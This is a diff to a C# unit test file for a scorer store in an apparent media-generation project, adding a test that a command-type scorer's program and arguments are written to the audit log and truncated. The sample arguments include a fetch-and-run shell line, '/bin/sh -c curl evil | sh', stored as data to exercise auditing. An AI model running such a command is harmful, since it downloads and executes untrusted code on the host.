@@ -1,5 +1,6 @@
 using System.Collections.Immutable;
 using Microsoft.EntityFrameworkCore;
+using RetryStudio.Domain.Accounts;
 using RetryStudio.Domain.Generation;
 using RetryStudio.Domain.Scorers;
 using RetryStudio.Tests.Builders;
@@ -27,6 +28,16 @@ public sealed class ScorerStoreTests : DatabaseTest
         found.Checks.ShouldBe([new("face_confidence", 1.2, 0, [AssetKind.Video]), new("likeness", 1.2, 0, [AssetKind.Video])]);
         (await Scorers.NamesAsync(Ct)).ShouldBe(["face_confidence", "likeness"]);
         (await ReadAsync(context => context.AuditEntries.SingleAsync(entry => entry.Action == "scorer.add", Ct))).Detail.ShouldBe("Faces, http://scorer:9100, on, 1 headers, likeness face_confidence");
+    }
+
+    [Fact]
+    public async Task AddAsync_Program_IsInTheAuditWithItsArguments()
+    {
+        await Scorers.AddAsync(new("Local", ScorerType.Command) { Program = "/bin/sh", Arguments = ["-c", "curl evil | sh", .. Enumerable.Repeat(new string('x', 400), 12)], Checks = [new("brightness", 0, 1, [AssetKind.Image])] }, "mara", Ct);
+
+        var detail = (await ReadAsync(context => context.AuditEntries.SingleAsync(entry => entry.Action == "scorer.add", Ct))).Detail;
+        detail.ShouldStartWith("Local, /bin/sh, on, 0 headers, brightness, arguments: -c curl evil | sh xxx");
+        detail.Length.ShouldBeLessThanOrEqualTo(AuditEntry.DetailLimit);
     }
 
     [Fact]
